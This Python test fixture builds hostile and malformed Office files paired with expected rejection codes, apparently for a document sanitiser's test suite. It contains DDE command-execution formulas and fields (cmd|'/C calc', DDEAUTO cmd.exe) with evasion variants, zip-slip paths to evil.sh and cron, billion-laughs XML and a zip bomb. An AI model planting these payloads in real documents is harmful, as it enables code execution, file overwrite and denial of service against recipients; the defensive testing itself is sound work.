"""XLSX and DOCX that run, load or carry something else, or are no documents at all."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from functools import partial
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

_TYPES = "application/vnd.openxmlformats-officedocument."
DOCX = f"{_TYPES}wordprocessingml.document.main+xml"
XLSX = f"{_TYPES}spreadsheetml.sheet.main+xml"
PPTX = f"{_TYPES}presentationml.presentation.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
Part = tuple[str, bytes]


def office(main: str, *parts: Part, first: Part | None = None) -> bytes:
    """A document whose main part is of the type given, with further parts (which may replace it)."""
    path = "/word/document.xml" if "word" in main else "/xl/workbook.xml"
    rows = {
        "[Content_Types].xml": f'<Types><Override PartName="{path}" ContentType="{main}"/></Types>'.encode(),
        path[1:]: b"<main>text</main>",
    }
    rows |= dict(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name, data in rows.items():
            archive.writestr(name, data)
    return out.getvalue()


def link(kind: str, target: str, mode: str = "External") -> bytes:
    row = f'<Relationship Id="r1" Type="{LINKS}{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{row}</Relationships>".encode()


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"<w:document>{runs}</w:document>".encode()


def slashes(name: str) -> bytes:
    """A document with a member of just that name, which zipfile would not write."""
    stand_in = "X" * len(name)
    return office(DOCX, (stand_in, b"x")).replace(stand_in.encode(), name.encode())


def twice() -> bytes:
    out = io.BytesIO(office(DOCX))
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore", UserWarning)
        archive.writestr("word/document.xml", b"<other/>")
    return out.getvalue()


def patched(offset: int, value: int) -> bytes:
    """A document with another flag or method in each entry of its directory."""
    content = bytearray(office(DOCX))
    for mark, shift in ((b"PK\x01\x02", 2), (b"PK\x03\x04", 0)):
        at = content.find(mark)
        while at >= 0:
            struct.pack_into("<H", content, at + offset + shift, value)
            at = content.find(mark, at + 4)
    return bytes(content)


def wrong_sum() -> bytes:
    content = bytearray(office(DOCX))
    at = content.find(b"PK\x01\x02")
    content[at + 16] ^= 0xFF
    return bytes(content)


def bomb() -> bytes:
    return office(XLSX, ("xl/worksheets/sheet1.xml", b"\0" * (160 * 1024 * 1024)))


SHEET, RELS = "xl/worksheets/sheet1.xml", "word/_rels/document.xml.rels"
# Label, name, how it is made, and the code of the sentence ("kept" where it is kept as a DOCX).
OFFICE: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("docm renamed", "m.docx", lambda: office(DOCM), "macros"),
    ("xlsm renamed", "m.xlsx", lambda: office(XLSM), "macros"),
    ("macros beside", "v.docx", lambda: office(DOCX, ("word/vbaProject.bin", b"x")), "macros"),
    ("old macros", "x4.xlsx", lambda: office(XLSX, ("xl/macrosheets/s.xml", b"<m/>")), "macros"),
    ("active x", "ax.docx", lambda: office(DOCX, ("word/activeX/a.xml", b"<a/>")), "macros"),
    (
        "template from elsewhere",
        "t.docx",
        lambda: office(
            DOCX, ("word/_rels/settings.xml.rels", link("attachedTemplate", "http://x/t.dotm"))
        ),
        "outside",
    ),
    (
        "picture from elsewhere",
        "p.docx",
        lambda: office(DOCX, (RELS, link("image", "http://x/a.png"))),
        "outside",
    ),
    (
        "link to read",
        "l.docx",
        lambda: office(DOCX, (RELS, link("hyperlink", "https://x.example/"))),
        "kept",
    ),
    (
        "linked book",
        "e.xlsx",
        lambda: office(XLSX, ("xl/externalLinks/externalLink1.xml", b"<e/>")),
        "outside",
    ),
    ("connections", "c.xlsx", lambda: office(XLSX, ("xl/connections.xml", b"<c/>")), "outside"),
    (
        "sheet that calls",
        "d.xlsx",
        lambda: office(XLSX, (SHEET, b"<sheet><c><f>cmd|'/C calc'!A0</f></c></sheet>")),
        "outside",
    ),
    *(
        (
            f"sheet that calls {how}",
            "d1.xlsx",
            partial(office, XLSX, (SHEET, f"<sheet><c>{formula}</c></sheet>".encode(code))),
            refused,
        )
        for how, formula, code, refused in (
            ("by the number of a sign", "<f>cmd&#124;'/C calc'!A0</f>", "utf-8", "outside"),
            ("under another prefix", "<x-y:f>cmd|'/C calc'!A0</x-y:f>", "utf-8", "outside"),
            ("after a comment", "<f>cmd<!-- -->|'/C calc'!A0</f>", "utf-8", "odd"),
            ("as plain characters", "<f><![CDATA[cmd|'/C calc'!A0]]></f>", "utf-8", "odd"),
            ("in wide signs", "<f>cmd|'/C calc'!A0</f>", "utf-16", "odd"),
            ("a site", "<f>WEBSERVICE(&quot;http://x/&quot;&amp;A1)</f>", "utf-8", "outside"),
        )
    ),
    (
        "sheet that adds up",
        "sum.xlsx",
        lambda: office(
            XLSX, (SHEET, b'<sheet><c><f t="shared" si="0"/><f>A1&amp;"|"&amp;B1</f></c></sheet>')
        ),
        "kept",
    ),
    *(
        (
            f"{kind} under a name of its own",
            "n.xlsx",
            partial(
                office,
                XLSX,
                ("xl/a.bin", b"x"),
                ("xl/_rels/workbook.xml.rels", link(kind, "a.bin", "Internal")),
            ),
            refused,
        )
        for kind, refused in (
            ("externalLink", "outside"),
            ("oleObject", "inside"),
            ("vbaProject", "macros"),
        )
    ),
    (
        "text that calls by the number of a sign",
        "d3.docx",
        lambda: office(DOCX, ("word/document.xml", field("D&#68;E c:\\\\cmd.exe"))),
        "outside",
    ),
    (
        "text that calls",
        "d.docx",
        lambda: office(DOCX, ("word/document.xml", field("DDEAUTO c:\\\\cmd.exe"))),
        "outside",
    ),
    (
        "text that calls in pieces",
        "d2.docx",
        lambda: office(DOCX, ("word/header1.xml", field("DD", "EAU", "TO cmd"))),
        "outside",
    ),
    ("zip slip", "s.docx", lambda: office(DOCX, ("../../evil.sh", b"x")), "odd"),
    ("absolute path", "s2.docx", lambda: office(DOCX, ("/etc/cron.d/evil", b"x")), "odd"),
    ("backslashes", "s3.docx", lambda: slashes("..\\..\\evil.bat"), "odd"),
    ("laughs in docx", "b.docx", lambda: office(DOCX, ("word/document.xml", LAUGHS)), "odd"),
    ("laughs in xlsx", "b.xlsx", lambda: office(XLSX, (SHEET, LAUGHS)), "odd"),
    (
        "laughs in wide signs",
        "b2.docx",
        lambda: office(DOCX, ("word/styles.xml", LAUGHS.decode().encode("utf-16"))),
        "odd",
    ),
    (
        "laughs in the types",
        "b3.docx",
        lambda: office(DOCX, ("[Content_Types].xml", LAUGHS)),
        "odd",
    ),
    ("zip in zip", "z.docx", lambda: office(DOCX, ("word/media/a.png", office(XLSX))), "inside"),
    ("program inside", "z2.xlsx", lambda: office(XLSX, ("xl/media/a.bin", b"MZ\x90\0")), "inside"),
    ("object inside", "z3.docx", lambda: office(DOCX, ("word/embeddings/o.bin", b"x")), "inside"),
    ("zip bomb", "bomb.xlsx", bomb, "too_much"),
    (
        "too many parts",
        "many.docx",
        lambda: office(DOCX, *((f"word/p{number}.xml", b"") for number in range(3001))),
        "too_much",
    ),
    ("locked part", "k.docx", lambda: patched(6, 1), "locked"),
    ("unheard-of packing", "k2.docx", lambda: patched(8, 99), "odd"),
    ("same part twice", "k3.docx", twice, "odd"),
    ("wrong sum", "k4.docx", wrong_sum, "damaged_document"),
    ("no xml", "k5.docx", lambda: office(DOCX, (RELS, b"<Relationships>")), "damaged_document"),
    ("slides", "slides.pptx", lambda: office(PPTX), "kind"),
]
